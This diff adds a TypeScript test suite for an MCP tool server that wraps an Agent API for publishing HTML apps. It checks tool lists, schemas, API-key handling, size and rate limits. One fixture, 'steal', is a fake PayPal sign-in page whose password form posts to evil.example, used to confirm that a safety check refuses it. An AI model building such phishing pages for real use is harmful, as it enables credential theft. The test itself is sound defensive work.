@@ -1,0 +1,215 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+
+import { Ajv2020 } from 'ajv/dist/2020.js'
+
+import type { Operation } from '../core/operations.ts'
+import { documentOf, operationsOf } from '../testing/described.ts'
+import { openTestHouse, type Person, type TestHouse } from '../testing/house.ts'
+import { callTool, type ListedTool, listTools, post, send } from '../testing/mcp.ts'
+import { shownOf } from './shown.ts'
+import { toolsOf } from './tools.ts'
+
+let house: TestHouse
+let ann: Person
+let tools: ListedTool[]
+beforeAll(async () => {
+  house = await openTestHouse({ REQUESTS_PER_MINUTE: '0' })
+  ann = await house.person('ann')
+  tools = await listTools(house)
+})
+afterAll(() => house.close())
+
+const page = '<!doctype html><title>Tide</title><h1>Tide</h1>'
+
+describe('the list', () => {
+  test('follows the description: names, summaries, at most 35, each time the same', async () => {
+    const operations = new Map(
+      operationsOf(await documentOf(house)).map((operation) => [operation.operationId, operation]),
+    )
+    for (const { name, description } of tools) {
+      expect(description).toStartWith(operations.get(name)?.summary ?? 'not of the description')
+    }
+    expect(tools.length).toBeLessThanOrEqual(35)
+    expect(await listTools(house)).toEqual(tools)
+    const names = tools.map(({ name }) => name)
+    expect(new Set(names).size).toBe(names.length)
+    for (const file of ['export_app', 'get_asset', 'look_at_asset', 'watch_job', 'get_openapi']) {
+      expect(names).not.toContain(file)
+    }
+  })
+
+  test('has a core of eleven', async () => {
+    const names = (await listTools(house, '?tools=core')).map(({ name }) => name)
+    expect(names).toEqual([
+      ...['start', 'new_agent', 'get_me', 'publish_app', 'get_job', 'publish_version'],
+      ...['get_html', 'change_app', 'get_app', 'list_apps', 'explore'],
+    ])
+    expect(tools.slice(0, 11).map(({ name }) => name)).toEqual(names)
+  })
+
+  test('shows one area, or everything for an area that is none', async () => {
+    const names = (await listTools(house, '?tools=assets')).map(({ name }) => name)
+    expect(names).toContain('put_asset')
+    expect(names).not.toContain('get_me')
+    expect(await listTools(house, '?tools=nothing')).toEqual(tools)
+  })
+
+  test('says what a tool does to things', () => {
+    const hints = Object.fromEntries(tools.map(({ name, annotations }) => [name, annotations]))
+    const [no, yes] = [false, true]
+    const of = (readOnlyHint: boolean, destructiveHint: boolean, idempotentHint: boolean) => ({
+      ...{ readOnlyHint, destructiveHint, idempotentHint },
+    })
+    expect(hints).toMatchObject({
+      get_app: of(yes, no, yes),
+      publish_app: of(no, no, no),
+      change_app: of(no, yes, yes),
+      delete_app: of(no, yes, yes),
+    })
+  })
+
+  test('has schemas of objects that stand alone', () => {
+    const ajv = new Ajv2020({ strict: false, validateFormats: false })
+    for (const { name, inputSchema, outputSchema } of tools) {
+      for (const schema of [inputSchema, outputSchema]) {
+        expect([name, schema['type']]).toEqual([name, 'object'])
+        expect(() => ajv.compile(schema)).not.toThrow()
+        expect(JSON.stringify(schema)).not.toContain('#/components')
+      }
+      expect(inputSchema).toMatchObject({
+        properties: { key: { type: 'string' } },
+        additionalProperties: false,
+      })
+    }
+  })
+})
+
+test('of a hundred operations, 35 are shown, and some of each area', () => {
+  const operations = Array.from({ length: 100 }, (_, at): Operation => ({
+    ...{ operationId: at === 99 ? 'start' : `do_${at}`, summary: 'Do.', method: 'GET' },
+    ...{ path: `/${at}`, tags: [`Area ${at % 7}`], security: [], responses: {} },
+  }))
+  const shown = shownOf(toolsOf({ operations, records: {} }), null)
+  expect(shown).toHaveLength(35)
+  expect(shown[0]?.definition.name).toBe('start')
+  const areas = Map.groupBy(shown, ({ operation }) => operation.tags[0])
+  expect([...areas.values()].map(({ length }) => length).every((many) => many >= 4)).toBe(true)
+})
+
+describe('a call', () => {
+  test('is a request to the Agent API: the same answer, structured and as text', async () => {
+    const id = await ann.publish({ html: page })
+    for (const [name, path] of [
+      ['get_app', `/apps/${id}`],
+      ['list_versions', `/apps/${id}/versions`],
+    ] as const) {
+      const { body } = await ann.call('GET', path)
+      const { structuredContent, content, isError } = await callTool(house, name, {
+        ...{ id, key: ann.key },
+      })
+      expect(structuredContent).toEqual(Object(body))
+      expect(JSON.parse(content[0]?.text ?? '')).toEqual(body)
+      expect(isError).toBeUndefined()
+    }
+    const { structuredContent, content } = await callTool(house, 'get_html', { id, key: ann.key })
+    expect(structuredContent).toEqual({ html: page })
+    expect(content).toEqual([{ type: 'text', text: page }])
+  })
+
+  test('says what its schema says it does', async () => {
+    const ajv = new Ajv2020({ strict: false, validateFormats: false })
+    const id = await ann.publish({ html: page })
+    const args = { id, key: ann.key, html: page }
+    for (const { name, inputSchema, outputSchema, annotations } of tools) {
+      const properties = Object.keys(Object(inputSchema['properties']))
+      const required = [inputSchema['required']].flat()
+      const known = Object.entries(args).filter(([field]) => properties.includes(field))
+      if (!annotations['readOnlyHint'] && name !== 'publish_version') continue
+      if (!required.every((field) => known.some(([own]) => own === field))) continue
+      const { structuredContent } = await callTool(house, name, Object.fromEntries(known))
+      const fits = ajv.compile(outputSchema)
+      expect([name, fits(structuredContent), fits.errors]).toEqual([name, true, null])
+    }
+  })
+
+  test('takes its key as a header or as an argument, which wins; nowhere else', async () => {
+    const me = async (...[args, message]: [unknown?, Parameters<typeof send>[3]?]) => {
+      const { structuredContent } = await callTool(house, 'get_me', args, message)
+      return structuredContent['handle'] ?? structuredContent['code']
+    }
+    const ben = await house.person('ben')
+    expect(await me({ key: ann.key })).toBe(ann.handle)
+    expect(await me({}, { key: ann.key })).toBe(ann.handle)
+    expect(await me({}, { headers: { 'x-api-key': ann.key } })).toBe(ann.handle)
+    expect(await me({ key: ben.key }, { key: ann.key })).toBe(ben.handle)
+    expect(await me({}, { query: `?key=${ann.key}` })).toBe('no_key')
+    expect(await me({}, { headers: { key: ann.key, cookie: `key=${ann.key}` } })).toBe('no_key')
+    expect(await me({ key: '' })).toBe('no_key')
+    expect(await me({ key: 'ak_no' })).toBe('bad_key')
+  })
+
+  test('refuses in the words of the Agent API', async () => {
+    const id = await ann.publish({ html: page })
+    const cases = [
+      ['get_app', { id: 'AAAAAAAAAAAA' }, 'GET', '/apps/AAAAAAAAAAAA'],
+      ['new_agent', { handle: 'admin' }, 'POST', '/keys', { handle: 'admin' }],
+      ['new_agent', { handle: ann.handle }, 'POST', '/keys', { handle: ann.handle }],
+      ['publish_app', {}, 'POST', '/apps', {}],
+      ['publish_app', { html: steal }, 'POST', '/apps', { html: steal }],
+      ['change_app', { id, title: '' }, 'PATCH', `/apps/${id}`, { title: '' }],
+    ] as const
+    for (const [name, args, method, path, body] of cases) {
+      const rest = await ann.call(method, path, body)
+      const { isError, structuredContent } = await callTool(house, name, args, { key: ann.key })
+      expect([name, isError, structuredContent['code']]).toEqual([name, true, rest.code ?? ''])
+      if (rest.code !== 'bad_request') expect(structuredContent).toEqual(Object(rest.body))
+    }
+  })
+
+  test('makes a page as large as one may be, and larger is refused', async () => {
+    const filler = (bytes: number) => page + ' '.repeat(bytes - page.length)
+    const publish = (html: string) => callTool(house, 'publish_app', { html, key: ann.key })
+    expect((await publish(filler(4 * 1_048_576))).isError).toBeUndefined()
+    expect((await publish(filler(4 * 1_048_576 + 1))).structuredContent['code']).toBe('too_large')
+  })
+
+  test('counts in the rate of its address, as a request does', async () => {
+    const busy = await openTestHouse({ REQUESTS_PER_MINUTE: '3' })
+    const codes: unknown[] = []
+    for (let call = 0; call < 4; call += 1) {
+      codes.push((await callTool(busy, 'is_on')).structuredContent['code'])
+    }
+    expect(codes).toEqual([undefined, undefined, undefined, 'rate_limited'])
+    expect((await busy.call('GET', '/on')).code).toBe('rate_limited')
+    await busy.close()
+  })
+})
+
+/** A page that the safety check refuses. */
+const steal =
+  '<!doctype html><title>PayPal</title><h1>Sign in to PayPal</h1><form action="https://evil.example/x"><input type="password"></form>'
+
+test('both eras are spoken at one address', async () => {
+  const { message } = await post(house, {
+    ...{ jsonrpc: '2.0', id: 1, method: 'initialize' },
+    params: {
+      protocolVersion: '2024-11-05',
+      capabilities: {},
+      clientInfo: { name: 'old', version: '1' },
+    },
+  })
+  expect(message).toMatchObject({
+    result: { protocolVersion: '2024-11-05', serverInfo: { name: 'berth' } },
+  })
+  const { body } = await send(house, 'server/discover')
+  expect(body).toMatchObject({
+    result: { supportedVersions: ['2026-07-28'], instructions: expect.stringContaining('start') },
+  })
+})
+
+test('where the Agent API is not open, neither is this', async () => {
+  const closed = await openTestHouse({ AGENTS_ON: 'off' })
+  const { status, code } = await send(closed, 'tools/list')
+  expect([status, code]).toEqual([404, 'agents_off'])
+  await closed.close()
+})
